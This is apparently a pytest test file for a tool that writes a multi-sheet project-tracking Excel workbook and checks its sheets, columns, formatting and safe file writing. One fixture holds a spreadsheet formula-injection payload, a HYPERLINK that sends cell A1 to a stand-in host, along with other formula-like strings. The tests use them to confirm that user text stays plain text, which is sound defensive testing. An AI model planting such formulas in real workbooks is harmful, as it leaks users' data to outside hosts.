"""The master workbook written for real and read back with openpyxl (and as raw XML)."""
import datetime as dt
import os
import zipfile

import openpyxl
import pytest

from merge_helpers import D, make_ws, submission, task
from xlflow.plan.build import build_plan
from xlflow.spec.catalog import load_catalog
from xlflow.week import master
from xlflow.week.master import write_master
from xlflow.xlsx import fastsheet
from xlflow.xlsx.book import SAFE_OPTIONS

AS_OF = D(2026, 11, 20)
EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")'


@pytest.fixture
def ws(tmp_path):
    return make_ws(tmp_path / "ws")


@pytest.fixture
def plan(ws):
    return build_plan([
        submission("RD", [task("RD-1", D(2026, 11, 2), D(2026, 11, 13), reason=EVIL),
                          task("RD-2", D(2026, 11, 16), D(2026, 12, 4), "not_started", ("RD-1",), notes="+1 555"),
                          task("RD-3", D(2026, 11, 2), D(2026, 11, 10), "done")],
                   raci=[{"item": "@SUM(A1)", "raci:RD": "A", "raci:MK": "R"}],
                   issues=[{"issue_id": "RD-R1", "kind": "risk", "description": "-2+3", "raised_by": "RD",
                            "raised_date": D(2026, 11, 2), "impact": "high", "owner": "Li",
                            "deadline": D(2026, 11, 10), "status": "open"}],
                   actions=[{"item": "Confirm", "owner_department": "MK", "owner": "Zhang",
                             "due": D(2026, 11, 18), "status": "in_progress"}],
                   meeting={"meeting_name": "Week 47", "meeting_type": "weekly", "date": D(2026, 11, 16)}),
        submission("MK", [task("MK-1", D(2026, 11, 16), D(2026, 11, 30), "in_progress", ("RD-1", "ZZ-1"), 10)]),
    ], ws, AS_OF)


def _sheet_xml(path) -> dict[str, str]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n).decode("utf-8") for n in zf.namelist() if n.startswith("xl/worksheets/sheet")}


def test_every_sheet_is_there_in_the_workspace_language(ws, plan, tmp_path):
    out = write_master(plan, ws, tmp_path / "m.xlsx", "en").path
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Dashboard", "Master WBS", "Timeline", "Delays & blockers", "Plan changes", "Dependencies",
                             "RACI", "Issues & risks", "Action items", "Changes", "Submissions", "Removed"]
    zh = openpyxl.load_workbook(write_master(plan, ws, tmp_path / "z.xlsx", "zh").path)
    assert zh.sheetnames[:3] == ["总览", "主任务表", "甘特图"]
    assert zh["主任务表"]["B4"].value == "任务编号"
    for sheet in wb.worksheets:  # frozen panes and print setup everywhere there is a table
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.sheet_properties.pageSetUpPr.fitToPage


def test_master_wbs_has_all_spec_fields_then_computed_columns(ws, plan, tmp_path):
    wb = openpyxl.load_workbook(write_master(plan, ws, tmp_path / "m.xlsx", "en").path)
    sheet = wb["Master WBS"]
    headers = [c.value for c in sheet[4]]
    spec = [f.label("en") for f in load_catalog().form("wbs").table("tasks").fields]
    assert headers[0] == "Department"
    assert headers[1:1 + len(spec)] == spec
    assert headers[1 + len(spec):] == ["Effective status", "Health", "Working days to due", "Working days late",
                                       "Baseline start", "Baseline due", "Slip (working days)", "Baseline from",
                                       "Open predecessors", "Successors in other departments", "File", "Received",
                                       "Coordinator's comment", "Follow-up action", "Follow-up date", "Escalate"]
    rows = {r[1]: dict(zip(headers, r, strict=True)) for r in sheet.iter_rows(min_row=5, values_only=True)}
    assert list(rows) == ["RD-1", "RD-2", "RD-3", "MK-1"]
    rd1 = rows["RD-1"]
    assert (rd1["Status"], rd1["Effective status"], rd1["Health"], rd1["Working days late"]) == \
        ("In progress", "Delayed", "Overdue", 5)
    assert rd1["Successors in other departments"] == "MK-1"
    assert rd1["Due date"] == dt.datetime(2026, 11, 13)
    assert rows["MK-1"]["Predecessors"] == "RD-1, ZZ-1"
    assert rows["MK-1"]["Open predecessors"] == "RD-1"
    assert rows["MK-1"]["Percent complete"] == 10
    assert rows["MK-1"]["Working days to due"] == 6
    assert sheet.freeze_panes == "D5"
    assert list(sheet.tables) and sheet.tables[list(sheet.tables)[0]].ref == "A4:AE8"  # with the baseline and coordinator columns


def test_status_and_health_colours_are_conditional_formats_from_enums(ws, plan, tmp_path):
    wb = openpyxl.load_workbook(write_master(plan, ws, tmp_path / "m.xlsx", "en").path)
    sheet = wb["Master WBS"]
    rules = {}
    for cf_range, cf_rules in sheet.conditional_formatting._cf_rules.items():
        for rule in cf_rules:
            rules.setdefault(str(cf_range.sqref), {})[rule.formula[0]] = rule.dxf.fill.bgColor.rgb
    enums = load_catalog().enums
    status_col = rules["I5:I8"]  # the reported status
    for choice in enums["status"].values:
        assert status_col[f'"{choice.label.en}"'].endswith(choice.colour.lstrip("#"))
    health_col = rules["Q5:Q8"]
    for choice in enums["health"].values:
        assert health_col[f'"{choice.label.en}"'].endswith(choice.colour.lstrip("#"))
    assert "P5:P8" in rules  # effective status


def test_department_text_never_becomes_a_formula(ws, plan, tmp_path):
    path = write_master(plan, ws, tmp_path / "m.xlsx", "en").path
    for name, xml in _sheet_xml(path).items():
        assert "<f>" not in xml and "<f " not in xml, name
    wb = openpyxl.load_workbook(path)
    found = {}
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in (EVIL, "+1 555", "@SUM(A1)", "-2+3"):
                    found.setdefault(cell.value, []).append((cell.data_type, cell.quotePrefix))
    assert set(found) == {EVIL, "+1 555", "@SUM(A1)", "-2+3"}
    assert all(kind == ("s", True) for kinds in found.values() for kind in kinds)


def test_timeline_is_conditional_formatting_not_a_value_per_week(ws, plan, tmp_path):
    wb = openpyxl.load_workbook(write_master(plan, ws, tmp_path / "m.xlsx", "en").path)
    sheet = wb["Timeline"]
    header = [c.value for c in sheet[4]]
    weeks = [v for v in header[6:] if v is not None]
    assert weeks[0] == dt.datetime(2026, 11, 2) and all(v.weekday() == 0 for v in weeks)
    week_cells = [c for row in sheet.iter_rows(min_row=5, min_col=7) for c in row if c.value is not None]
    assert week_cells == []
    formulas = [r.formula[0] for rules in sheet.conditional_formatting._cf_rules.values() for r in rules
                if r.type == "expression"]
    assert any('$D5="Delayed"' in f and "G$4<=$F5" in f for f in formulas)


def test_dashboard_counts_are_values(ws, plan, tmp_path):
    wb = openpyxl.load_workbook(write_master(plan, ws, tmp_path / "m.xlsx", "en").path)
    sheet = wb["Dashboard"]
    header = [c.value for c in sheet[7]]
    rows = {r[0]: dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=8, max_row=10, values_only=True)}
    assert rows["RD"]["Tasks"] == 3 and rows["RD"]["Delayed"] == 1 and rows["RD"]["Done"] == 1
    assert rows["RD"]["Overdue"] == 1 and rows["MK"]["In progress"] == 1
    assert rows["PMO"]["Update accepted this week"] == "No"
    assert len(sheet._charts) == 2
    deps = wb["Dependencies"]
    values = [c.value for row in deps.iter_rows() for c in row if c.value is not None]
    assert "Unknown predecessor" in values and "ZZ-1" in values


def test_failed_write_leaves_no_partial_file_and_keeps_the_old_master(ws, plan, tmp_path, monkeypatch):
    target = tmp_path / "out" / "m.xlsx"
    target.parent.mkdir()
    target.write_bytes(b"previous master")

    def boom(writer):
        raise RuntimeError("disk full")

    monkeypatch.setattr(master.submissions, "write", boom)  # the last sheet
    with pytest.raises(RuntimeError):
        write_master(plan, ws, target, "en")
    assert target.read_bytes() == b"previous master"
    assert sorted(p.name for p in target.parent.iterdir()) == ["m.xlsx"]


def test_locked_target_is_written_beside_it(ws, plan, tmp_path, monkeypatch):
    target = tmp_path / "m.xlsx"
    target.write_bytes(b"open in Excel")
    real = os.replace

    def locked(src, dst):
        if os.fspath(dst) == os.fspath(target):
            raise PermissionError(13, "The process cannot access the file")
        return real(src, dst)

    monkeypatch.setattr(os, "replace", locked)
    result = write_master(plan, ws, target, "en")
    assert result.locked and result.target == target
    assert result.path.parent == tmp_path and result.path.name.startswith("m-") and result.path.suffix == ".xlsx"
    assert target.read_bytes() == b"open in Excel"
    assert openpyxl.load_workbook(result.path).sheetnames[0] == "Dashboard"
    assert [p for p in tmp_path.iterdir() if p.name.startswith(".~")] == []


def test_text_that_looks_like_rich_text_markup_stays_verbatim(ws, tmp_path):
    """xlsxwriter copies a shared string of the form <r>...</r> into the XML unescaped (its rich-text form)."""
    markup = "<r><t>x</t></r>"
    plan = build_plan([submission("RD", [task("RD-1", D(2026, 11, 2), D(2026, 11, 13), name=markup)])], ws, AS_OF)
    path = write_master(plan, ws, tmp_path / "m.xlsx", "en").path
    with zipfile.ZipFile(path) as zf:
        assert "<si><r><t>x</t></r></si>" not in zf.read("xl/sharedStrings.xml").decode("utf-8")
    wb = openpyxl.load_workbook(path)
    found = [c.value for sheet in wb.worksheets for row in sheet.iter_rows() for c in row if c.value == markup]
    assert len(found) >= 3  # master WBS, timeline, delays


def test_bulk_rows_keep_booleans_numbers_and_text_apart_across_chunks(tmp_path, monkeypatch):
    """Rendered cells are remembered by value, and True == 1 == 1.0 as dict keys: each must still
    come back as what it was, in one chunk or split over several."""
    from xlflow.xlsx.pack import FastWorkbook

    values = [1, True, 1.0, 2, None, "1", False, 0, 0.5, "=1+1", dt.date(2026, 11, 20), 1]
    for chunk in (2, 4096):
        monkeypatch.setattr(fastsheet, "BULK_CHUNK", chunk)
        path = tmp_path / f"bulk{chunk}.xlsx"
        wb = FastWorkbook(str(path), SAFE_OPTIONS)
        wb.worksheet_class = fastsheet.FastSheet
        sheet = wb.add_worksheet("s")
        styles = fastsheet.Styles(wb)
        cols = [fastsheet.Col("a", 8, lambda v: v, "int"), fastsheet.Col("b", 8, lambda v: v, "int")]
        assert sheet.bulk(1, cols, values, styles) == len(values)
        wb.close()
        got = [(row[0].value, row[1].value) for row in openpyxl.load_workbook(path)["s"].iter_rows(min_row=2)]
        got = [a for a, b in got if a == b or (a is b)]
        expected = [v if not isinstance(v, dt.date) else dt.datetime(2026, 11, 20) for v in values]
        kinds = [(type(v) is bool, type(v) is str, v) for v in got]
        assert kinds == [(type(v) is bool, type(v) is str, v) for v in expected], chunk
